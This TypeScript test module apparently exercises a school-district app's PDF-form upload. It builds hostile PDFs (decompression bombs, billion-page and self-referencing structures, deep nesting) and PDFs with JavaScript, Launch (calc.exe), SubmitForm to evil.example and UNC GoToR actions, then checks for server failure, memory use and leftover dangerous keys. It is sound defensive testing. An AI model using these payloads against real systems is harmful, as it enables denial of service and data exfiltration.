/** PDF files that are bombs, loops or programs, uploaded by an administrator. */
import { deflateSync } from 'node:zlib';
import { readFile } from 'node:fs/promises';

import type { Family, Tries } from './attack.ts';
import { startBystanders } from './bystanders.ts';
import { type Answer, codeOf } from './http-client.ts';
import { type Caller, districtPath } from './callers.ts';
import type { Target } from './target.ts';

const mostBytes = 1.5e9;

export const pdfFilesFamily: Family = {
  name: 'PDF files',
  isQuick: false,
  async attack(target, tries) {
    const administrator = await target.newPerson('administrator', 'b');
    const others = startBystanders(target);
    for (const [what, file] of bombs()) {
      const answer = await upload(target, administrator, file);
      const isTrouble = answer.status === 0 || answer.status >= 500;
      tries.note(`a PDF ${what}`, isTrouble && `answered ${answer.status} ${codeOf(answer)}`);
      if (answer.status === 200) await attackForm(target, tries, administrator, what, answer);
    }
    await others.end(tries, 'uploads of bad PDF files');
    await attackTurns(target, tries);
    const status = await readFile(`/proc/${target.main.pid}/status`, 'utf8').catch(() => '');
    const peak = Number(/VmHWM:\s+(\d+) kB/.exec(status)?.[1] ?? 0) * 1024;
    tries.note('all of these', peak > mostBytes && `took ${Math.round(peak / 1e6)} MB of memory`);
  },
};

const upload = async (target: Target, caller: Caller, file: Uint8Array) =>
  target.ask(caller, {
    method: 'POST',
    path: `${districtPath('b')}/pdf-forms?fileName=x.pdf`,
    headers: { 'content-type': 'application/pdf' },
    body: file,
  });

/** What was taken holds nothing that a reader would run, and fills in reasonable time. */
async function attackForm(
  target: Target,
  tries: Tries,
  caller: Caller,
  what: string,
  answer: Answer,
): Promise<void> {
  const { id, pages } = JSON.parse(answer.text) as { id: number; pages: number };
  tries.note(`a PDF ${what}`, pages > 5000 && `is taken with ${pages} pages`);
  const filled = await target.ask(caller, {
    path: `${districtPath('b')}/students/${target.records.b.student.one}/pdf-forms/${id}/filled.pdf`,
  });
  const isTrouble = filled.status === 0 || filled.status >= 500;
  tries.note(`a PDF ${what}, filled`, isTrouble && `answered ${filled.status}`);
  const text = filled.bytes
    .toString('latin1')
    .replaceAll(/#([0-9a-f]{2})/gi, (_, hex: string) =>
      String.fromCharCode(Number.parseInt(hex, 16)),
    );
  const kept = [
    '/JavaScript',
    '/JS',
    '/Launch',
    '/SubmitForm',
    '/EmbeddedFile',
    '/GoToR',
    '/RichMedia',
    '/XFA',
  ].filter((name) => text.includes(name));
  tries.note(`a PDF ${what}, filled`, kept.length > 0 && `still holds ${kept.join(', ')}`);
}

/** Ten files that take as long as is allowed do not stand in the way of another district. */
async function attackTurns(target: Target, tries: Tries): Promise<void> {
  const [, digits] = bombs()[0] ?? [];
  if (digits === undefined) return;
  const people = [
    await target.newPerson('administrator', 'b'),
    await target.newPerson('administrator', 'b'),
  ];
  let ended = 0;
  const uploads = Array.from({ length: 10 }, async (_, index) => {
    const answer = await upload(
      target,
      people[index % 2] ?? target.caller('administrator of b'),
      digits,
    );
    if (answer.status !== 429) ended += 1;
  });
  await new Promise((resolve) => setTimeout(resolve, 300));
  const { a } = target.records;
  const answer = await target.ask(target.caller('staff of a'), {
    path: `${districtPath('a')}/students/${a.student.one}/pdf-forms/${a.pdfForm}/filled.pdf`,
  });
  tries.note(
    'a PDF of another district beside ten bad ones',
    answer.status !== 200 && `answered ${answer.status}`,
  );
  // One may be under way in each place; the next one is that of the other district.
  tries.note(
    'a PDF of another district beside ten bad ones',
    ended > 4 && `waits for ${ended} of them`,
  );
  await Promise.all(uploads);
}

/** A file of these objects, the first of which is the catalog. */
function pdfOf(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const offsets: number[] = [];
  let length = parts[0]?.length ?? 0;
  for (const [index, object] of objects.entries()) {
    const whole = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`),
      Buffer.from(object),
      Buffer.from('\nendobj\n'),
    ]);
    offsets.push(length);
    parts.push(whole);
    length += whole.length;
  }
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  parts.push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${length}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

const streamOf = (content: Buffer, dictionary = '') =>
  Buffer.concat([
    Buffer.from(`<< /Length ${content.length} ${dictionary} >>\nstream\n`),
    content,
    Buffer.from('\nendstream'),
  ]);

const catalog = '<< /Type /Catalog /Pages 2 0 R /AcroForm 4 0 R >>';
const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [5 0 R] >>';
const form = '<< /Fields [5 0 R] >>';
const field = '<< /FT /Tx /T (name) /Subtype /Widget /Rect [0 0 100 20] /P 3 0 R >>';
const acting = (action: string) =>
  pdfOf([
    catalog.replace('>>', `/OpenAction ${action} >>`),
    pages,
    page,
    form,
    field.replace('>>', `/A ${action} /AA << /K ${action} >> >>`),
  ]);

/** Each with what it is. */
function bombs(): readonly (readonly [string, Buffer])[] {
  const zeros = deflateSync(Buffer.alloc(200_000_000));
  const twice = deflateSync(zeros);
  return [
    [
      'of nine megabytes of digits',
      Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(9_000_000, '1 0 2 ')]),
    ],
    [
      'with the same page 900,000 times',
      pdfOf([
        catalog,
        `<< /Type /Pages /Kids [${'3 0 R '.repeat(900_000)}] /Count 900000 >>`,
        page,
        form,
        field,
      ]),
    ],
    [
      'that says it has a billion pages',
      pdfOf([catalog, pages.replace('/Count 1', '/Count 1000000000'), page, form, field]),
    ],
    [
      'whose pages hold themselves',
      pdfOf([catalog, '<< /Type /Pages /Kids [2 0 R] /Count 1 >>', page, form, field]),
    ],
    [
      'whose fields hold themselves',
      pdfOf([catalog, pages, page, form, '<< /T (a) /Kids [5 0 R] /Parent 5 0 R /FT /Tx >>']),
    ],
    ['whose objects name each other', pdfOf([catalog, '3 0 R', '2 0 R', form, field])],
    [
      'with a page that unpacks to 200 MB',
      pdfOf([
        catalog,
        pages,
        page.replace('>>', '/Contents 6 0 R >>'),
        form,
        field,
        streamOf(zeros, '/Filter /FlateDecode'),
      ]),
    ],
    [
      'packed twice',
      pdfOf([
        catalog,
        pages,
        page.replace('>>', '/Contents 6 0 R >>'),
        form,
        field,
        streamOf(twice, '/Filter [/FlateDecode /FlateDecode]'),
      ]),
    ],
    [
      'with objects that unpack to 200 MB',
      pdfOf([
        catalog,
        pages,
        page,
        form,
        field,
        streamOf(zeros, '/Type /ObjStm /N 1000000 /First 9 /Filter /FlateDecode'),
      ]),
    ],
    [
      '100,000 arrays deep',
      pdfOf([catalog, pages, page, form, field, `${'['.repeat(100_000)}${']'.repeat(100_000)}`]),
    ],
    [
      'with a name of a megabyte',
      pdfOf([catalog, pages, page, form, field.replace('(name)', `(${'x'.repeat(1_000_000)})`)]),
    ],
    [
      'with 20,000 fields',
      pdfOf([catalog, pages, page, `<< /Fields [${'5 0 R '.repeat(20_000)}] >>`, field]),
    ],
    [
      'that is encrypted',
      pdfOf(
        [
          catalog,
          pages,
          page,
          form,
          field,
          '<< /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -4 >>',
        ],
        '/Encrypt 6 0 R',
      ),
    ],
    ['whose table leads to itself', pdfOf([catalog, pages, page, form, field], '/Prev 9')],
    ['with a script', acting('<< /S /JavaScript /JS (app.alert(1)) >>')],
    ['with a script in other letters', acting('<< /S /J#61vaScript /J#53 (app.alert(1)) >>')],
    ['that starts a program', acting('<< /S /Launch /F (calc.exe) >>')],
    ['that sends itself', acting('<< /S /SubmitForm /F (https://evil.example/) >>')],
    [
      'that opens another file',
      acting('<< /S /GoToR /F (\\\\\\\\evil.example\\\\x) /D [0 /Fit] >>'),
    ],
    ['that is a web page', Buffer.from('<html><script>1</script>%PDF-1.7')],
    ['that is empty', Buffer.alloc(0)],
    ['cut in the middle', pdfOf([catalog, pages, page, form, field]).subarray(0, 300)],
  ];
}
